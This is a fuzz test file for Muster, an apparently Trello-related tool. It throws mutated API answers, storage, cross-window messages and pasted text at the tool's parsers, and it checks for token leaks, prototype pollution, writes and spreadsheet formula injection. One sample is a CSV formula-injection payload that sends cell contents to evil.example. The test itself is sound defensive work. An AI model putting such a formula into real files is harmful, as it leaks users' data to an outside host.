/**
 * Hostile input, at random but for the seed: whatever Trello, its page, this browser's storage, another window or a person's
 * file says, Muster answers with what it could read or with one of its own errors. `MUSTER_FUZZ=10000` tries so many,
 * `MUSTER_FUZZ_SEED` others.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { quietDays } from '../../src/features/cards/badge.ts';
import { pastedCards } from '../../src/features/cards/pasted-cards.ts';
import { parseItems } from '../../src/features/checklists/as-text.ts';
import { openItems } from '../../src/features/checklists/badge.ts';
import { itemsOfCsv } from '../../src/features/checklists/items-csv.ts';
import { readCommand } from '../../src/features/commands/command-read.ts';
import { actionRows } from '../../src/features/history/queries.ts';
import { staysOf } from '../../src/features/history/stays.ts';
import { trash, undone } from '../../src/features/jobs/queries.ts';
import { kinds } from '../../src/features/kinds.ts';
import { isManned } from '../../src/features/members/badge.ts';
import { readSettings } from '../../src/features/settings.ts';
import { readSetup } from '../../src/features/workbench/setup.ts';
import { openAddress } from '../../src/host/address.ts';
import { readAll, readBoard as readHostBoard, readCard as readHostCard, readList } from '../../src/host/read.ts';
import { tally } from '../../src/jobs/job.ts';
import { openJournal } from '../../src/jobs/journal.ts';
import { learn } from '../../src/jobs/known.ts';
import { readStory } from '../../src/jobs/read-story.ts';
import { serveRunner } from '../../src/jobs/remote.ts';
import { createRunner } from '../../src/jobs/runner.ts';
import type { Channel } from '../../src/lib/channel.ts';
import { parseCsv, printCsv } from '../../src/lib/csv.ts';
import { exactTime } from '../../src/lib/when.ts';
import { pastedItems } from '../../src/model/paste.ts';
import { exported, imported } from '../../src/page/settings/transfer.ts';
import { toldBoard, toldOutline } from '../../src/page/told.ts';
import { type Action, readActions } from '../../src/trello/actions.ts';
import { readBoardComments } from '../../src/trello/board-comments.ts';
import { readBoard } from '../../src/trello/boards.ts';
import type { Read } from '../../src/trello/call.ts';
import { readCard } from '../../src/trello/card.ts';
import { readComments } from '../../src/trello/comments.ts';
import type { Page } from '../../src/trello/entries.ts';
import { TrelloError } from '../../src/trello/errors.ts';
import { readMessage as readPace } from '../../src/trello/pace-channel.ts';
import { emulate } from '../emulator/emulate.ts';
import { generateBoard } from '../emulator/seeds/generate.ts';
import { clientOn } from '../features/desk.ts';
import { floods, scripts } from '../hostile.ts';
import { context, lookAt } from './look-at.ts';
import { garble, mutate, oneOf, randomOf } from './mutate.ts';

const count = Number(process.env.MUSTER_FUZZ ?? 1_200);
const seed = Number(process.env.MUSTER_FUZZ_SEED ?? 20_261_124);
/** So many of each of the four sorts of input. */
const each = Math.ceil(count / 4);
const key = '0123456789abcdef0123456789abcdef';

const source = generateBoard({ cards: 6, members: 3, commentsPerCard: 3 });
const trello = emulate({ boards: [source], limits: { tokenPerWindow: 1e9, keyPerWindow: 1e9, membersPerWindow: 1e9 } });
const token = trello.grant({ key, idMember: trello.personOf(source.id).id, scope: 'read,write' });
const honest = clientOn(trello.fetch, () => ({ key, token }));
const before = Object.getOwnPropertyNames(Object.prototype);

beforeAll(() => {
  console.info(`fuzz: ${each * 4} inputs, MUSTER_FUZZ_SEED=${seed}`);
});

afterAll(() => {
  // Nothing ran, nothing was polluted, nothing was written.
  expect(globalThis).not.toHaveProperty('harmed');
  expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  expect(trello.log.filter(({ method }) => method !== 'GET')).toEqual([]);
});

/** Runs one input after the other; a failure names the one that did it. */
async function times(sort: number, act: (random: () => number) => unknown): Promise<void> {
  for (let nth = 0; nth < each; nth++) {
    try {
      await act(randomOf(seed + sort * 1_000_003 + nth));
    } catch (error) {
      throw new Error(`Input ${nth} of MUSTER_FUZZ_SEED=${seed} did harm.`, { cause: error });
    }
  }
}

test('answers of Trello: read, or refused with one of Muster’s errors; what was read can be looked at', async () => {
  const board = await honest.read(readBoard(source.id));
  const [idCard = ''] = board.cards.keys();
  const reads: readonly Read<unknown>[] = [
    readBoard(source.id),
    readCard(idCard),
    readComments(idCard),
    readBoardComments(source.id, {}),
    readActions('boards', source.id, {}),
  ];
  const bodies = new Map<string, string>();
  let read = 0;
  await times(1, async (random) => {
    const call = oneOf(reads, random);
    const client = clientOn(
      async (request) => {
        const body = bodies.get(request.url) ?? (await (await trello.fetch(request)).text());
        bodies.set(request.url, body);
        const how = random();
        if (how < 0.05) throw new TypeError('cut');
        if (how < 0.1) return new Response(garble(body, random));
        const status = how < 0.2 ? oneOf([400, 401, 403, 404, 429, 500, 503], random) : 200;
        return new Response(JSON.stringify(mutate(JSON.parse(body), random)), { status });
      },
      () => ({ key, token }),
    );
    try {
      const answer = await client.send(call);
      read++;
      if (call === reads[0]) for (const csv of lookAt(answer as typeof board)) sound(csv);
      if (call === reads[1]) lookAt({ ...board, cards: new Map([[idCard, answer as never]]) });
      if (call === reads[4]) {
        const { entries: actions } = answer as Page<Action>;
        actionRows(actions, board, (date) => exactTime(Date.parse(date), 'en'));
        staysOf(actions, board, context.now);
      }
    } catch (error) {
      if (!(error instanceof TrelloError)) throw error;
      expect(error.message).not.toContain(token);
    }
  });
  expect(read).toBeGreaterThan(each / 4);
});

test('what Trello’s page tells: what can be read of it, badges included', async () => {
  const { cards } = await honest.read(readBoard(source.id));
  const told = {
    cards: [...cards.values()].map(({ id, name, url, due, idList, dateLastActivity, checklists }) => ({
      ...{ id, name, url, due, idList, dateLastActivity, checklists },
      badges: { checkItems: 4, checkItemsChecked: 1, checkItemsEarliestDue: due, comments: 1 },
      members: [{ id: 'a', fullName: 'Ana', username: 'ana', initials: 'A', avatar: 'https://trello.com/a/50.png' }],
    })),
    board: { id: source.id, name: 'Board', url: 'https://trello.com/b/x', members: [{ id: 'a', fullName: 'Ana' }] },
    lists: [{ id: 'l', name: 'To do' }],
  };
  await times(2, (random) => {
    const { cards, board, lists } = mutate(told, random) as Partial<Record<keyof typeof told, unknown>>;
    const all = readAll(cards, readHostCard);
    const about = readHostBoard(board) ?? { id: source.id };
    lookAt(toldBoard(about, all, readAll(lists, readList)));
    toldOutline(all);
    for (const card of all) [openItems(card), isManned(card), quietDays(card, context.now)];
  });
});

test('what is stored or said between windows: read, or passed over; nobody is made to write', async () => {
  const board = await honest.read(readBoard(source.id));
  const [card] = board.cards.values();
  if (!card) throw new Error('The board has no card.');
  const edits = [{ kind: 'comment', idCard: card.id }];
  const story = { job: jobOf(edits), outcomes: [{ state: 'done', created: 'x' }], end: 'finished' };
  const state = { job: story.job, status: 'running', ended: false, lasting: true, total: 1, done: 0, failed: 0 };
  const stored = {
    presets: [{ id: 'p', name: 'Design', idMembers: ['a'] }],
    replies: [{ id: 'r', name: 'Thanks', text: 'Thank you' }],
    settings: { version: 1, badges: { open: false }, quietDays: 14, bulk: 'admins', console: true },
    options: ['console'],
    views: [{ id: 'v', table: 'items', name: 'Mine', setup: 'q=x' }],
    setup: 'q=is%3Aopen&group=list&sort=-due&col=who',
    tabs: { tab: 'cards', items: 'q=x' },
    story,
  };
  const messages = [
    { type: 'who' },
    { type: 'here', runner: 'r', tab: 't', states: [state] },
    { type: 'start', to: 'somebody', request: 'q', job: story.job },
    { type: 'adopt', to: 'somebody', job: 'j' },
    { type: 'command', job: 'j', command: 'retry' },
    { type: 'answer', request: 'q', value: [story] },
    { type: 'event', event: { type: 'state', state } },
    {
      type: 'event',
      event: { type: 'edit', job: 'j', idBoard: 'b', index: 0, outcome: { state: 'done' }, sent: edits[0] },
    },
  ];
  const { channel, say } = ether();
  const runner = await createRunner({ client: honest, journal: await openJournal(null), kinds });
  serveRunner(runner, { channel, tab: 't' });
  await times(3, async (random) => {
    const {
      presets,
      replies,
      views,
      settings,
      options,
      setup,
      tabs,
      story: told,
    } = mutate(stored, random) as Record<string, unknown>;
    const shared = { presets, replies, views, settings, options };
    readSettings(shared);
    const file = imported(
      random() < 0.5 ? garble(exported(shared), random) : JSON.stringify({ ...shared, muster: 'settings', version: 1 }),
    );
    if ('values' in file)
      for (const { setup } of file.values.views as { setup: string }[]) readSetup(setup, { group: 'list' });
    if (typeof setup === 'string') readSetup(setup, { group: 'list' });
    const address = openAddress(
      pageAt(`#${encodeURIComponent(garble(JSON.stringify({ secret: 's', views: tabs }), random))}`),
    );
    for (const value of Object.values(address.read())) expect(typeof value).toBe('string');
    const read = readStory(told);
    if (read) {
      learn({ ids: new Map(), taken: new Set() }, [read], kinds);
      tally(read);
      exactTime(Date.parse(read.job.at), 'en');
      trash([read], ({ kind }) => kinds.get(kind)?.deletes === true);
      undone([read]);
    }
    say(mutate(oneOf(messages, random), random));
    readPace(
      mutate({ came: true, turns: [1, 2], answer: { refused: false, key: { max: 3, left: 2, windowMs: 9 } } }, random),
    );
  });
  await new Promise((settled) => setTimeout(settled));
  expect(await runner.stories()).toEqual([]);
});

test('what is pasted or opened from a file: read line by line, and written again as no formula', async () => {
  const board = await honest.read(readBoard(source.id));
  const samples = [
    'Name,Description,List,Members,Labels,Due\r\n"Book, the venue","a ""b""",To do,@ana,red,2026-12-01\r\nSecond,,,,,',
    'item,done,assignee,due\nWrite,x,@ana,2026-12-01\nAsk,,,tomorrow',
    '- [x] done\n- [ ] open @ana !2026-12-01\n1. first\n\u2028• last',
    'add Write the notes to Doing due fri @ana #docs',
    '=HYPERLINK("https://evil.example?"&A1),+1,-1,@SUM(A1)',
    ...scripts,
    ...Object.values(floods).map((text) => text.slice(0, 3_000)),
  ];
  await times(4, (random) => {
    const text = garble(garble(oneOf(samples, random), random), random);
    const { cards } = pastedCards(text, board);
    for (const { name } of cards) expect(name.trim()).not.toBe('');
    pastedItems(text);
    itemsOfCsv(text, board.members);
    parseItems(text, board.members);
    const line = text.slice(0, 300);
    readCommand(line, {
      board,
      me: null,
      card: null,
      views: [],
      mayWrite: true,
      mayComment: true,
      now: context.now,
      timeZone: context.timeZone,
    });
    sound(printCsv(parseCsv(text)));
  });
});

/** No cell of a CSV is what a spreadsheet would reckon out. Taken apart plainly: Muster's own reader takes the guard off again. */
function sound(csv: string): void {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  for (const [, quoted, plain] of cells) expect(quoted ?? plain).not.toMatch(/^[=+@\t\r\n＝＋－＠]|^-(?!\d+$)/);
}

function jobOf(edits: readonly object[]): object {
  return { id: 'j', version: 1, idBoard: source.id, idMember: 'm', at: '2026-11-24T12:00:00.000Z', edits };
}

function pageAt(hash: string): Parameters<typeof openAddress>[0] {
  return { location: { hash } as Location, history: { replaceState() {} } as unknown as History }; // As much of a window as it reads.
}

/** A channel on which a test speaks. */
function ether(): { channel: Channel; say: (message: unknown) => void } {
  const listeners = new Set<(message: unknown) => void>();
  return {
    channel: {
      post() {},
      onMessage(listener) {
        listeners.add(listener);
        return () => listeners.delete(listener);
      },
    },
    say(message) {
      for (const listener of listeners) listener(message);
    },
  };
}
